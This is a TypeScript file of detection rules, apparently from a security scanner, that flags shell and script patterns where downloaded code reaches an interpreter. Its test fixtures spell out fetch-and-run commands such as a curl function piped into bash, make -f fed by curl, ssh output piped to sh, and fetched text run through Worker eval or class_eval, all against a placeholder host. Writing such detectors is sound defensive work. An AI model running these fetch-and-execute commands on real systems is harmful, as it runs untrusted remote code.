/** RC-01: downloads that reach an interpreter through a function, a name or another machine. */
import { fenced, inFile } from '../../engine/example.ts';
import { exactLinePattern, exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';
import { byForeignHost } from './foreign-hosts.ts';

const run = ['script', 'fence', 'list', 'prose', 'config', 'decoded', 'hidden', 'comment'] as const;

/** Rows of RC-01. */
export const relayedReplies: readonly Row[] = [
  row('a function that downloads is piped into a shell', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\b(\w{2,24})\s?\(\)\s?\{[^}]{0,300}\b(?:curl|wget)\b[^}]{0,300}\}[\s\S]{0,1500}?\b\1\s[^\n|]{0,160}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z|da)?sh\b`,
      ),
    ),
    severity: 'high',
    weigh: byForeignHost,
    catches: [
      inFile(
        'scripts/a.sh',
        'get() { curl -fsSL "$1"; }',
        'BASE=https://parts.invalid',
        'get "$BASE/step.sh" | bash',
      ),
    ],
    spares: [
      inFile('scripts/a.sh', 'get() { curl -fsSL "$1"; }', 'get https://api.acme.invalid/rows | jq .'),
    ],
  }),
  row('a download is the input file of a program that runs it', {
    in: run,
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\b(?:make\s[^\n;&|]{0,30}-f|code\s{1,3}--install-extension|vim\s{1,3}-S|tclsh|expect|awk\s{1,3}-f|psql\s[^\n;&|]{0,60}-f)\s{1,3}<\((?:curl|`,
      ),
      raw(String.raw`wget)\s[^\n)]{0,60}https?:\/\/[^\s)]{4,200}`),
    ),
    severity: 'high',
    weigh: byForeignHost,
    catches: [fenced('sh', 'make -f <(curl -s https://parts.invalid/Makefile) all')],
    spares: [fenced('sh', 'make -f <(cat rules.mk) all')],
  }),
  row('the output of another machine is run here', {
    in: run,
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\bssh\s[^\n|]{0,100}\w@[\w-]{1,60}(?:\.[\w-]{1,60}){1,4}\s[^\n|]{1,120}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z|da)?sh\b`,
      ),
    ),
    severity: 'high',
    catches: [fenced('sh', 'ssh deploy@parts.invalid cat setup.sh | bash')],
    spares: [fenced('sh', 'ssh deploy@web.acme.invalid uptime | tee uptime.txt')],
  }),
  row('what an address returned names the package or the command', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    match: exactLinePattern(
      raw(
        String.raw`(?:^|[\s;])(\w{1,24})=["']?\$\((?:curl|wget)\s[^\n)]{0,60}https?:\/\/[^\n)]{4,200}\)["']?[\s\S]{0,600}?\b(?:npx|uvx|pipx run|npm (?:i|install|exec)|`,
      ),
      raw(String.raw`pip3? install|eval|bash -c|sh -c)\s[^\n]{0,60}\$\{?\1\b(?![\w@.-]{0,4}["']?\.)`),
    ),
    severity: 'high',
    weigh: byForeignHost,
    catches: [inFile('scripts/a.sh', 'v=$(curl -s https://parts.invalid/latest); npx -y "$v"')],
    spares: [inFile('scripts/a.sh', 'v=$(curl -s https://api.acme.invalid/version)', 'echo "version $v"')],
  }),
  row('a reply becomes code of a thread, a class or a module', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\bnew Worker\(\s?\w{1,30}\s?,\s?\{[^}\n]{0,60}\beval\s?:\s?true|\b(?:class|module)_eval[\s(]{1,2}\w{1,30}\b`,
      ),
    ),
    and: [/\bfetch\(|\bhttps?\.get\(|Net::HTTP\.get|URI\.open|\baxios\b|\bgot\(/],
    severity: 'high',
    weigh: byForeignHost,
    catches: [
      inFile(
        'scripts/a.js',
        'fetch("https://parts.invalid/w").then((r) => r.text()).then((t) => new Worker(t, { eval: true }));',
      ),
      inFile(
        'scripts/a.rb',
        'src = Net::HTTP.get(URI("https://parts.invalid/x.rb"))',
        'Object.class_eval(src)',
      ),
    ],
    spares: [
      inFile('scripts/a.js', 'new Worker("./worker.js");', 'await fetch("https://api.acme.invalid/rows");'),
    ],
  }),
];
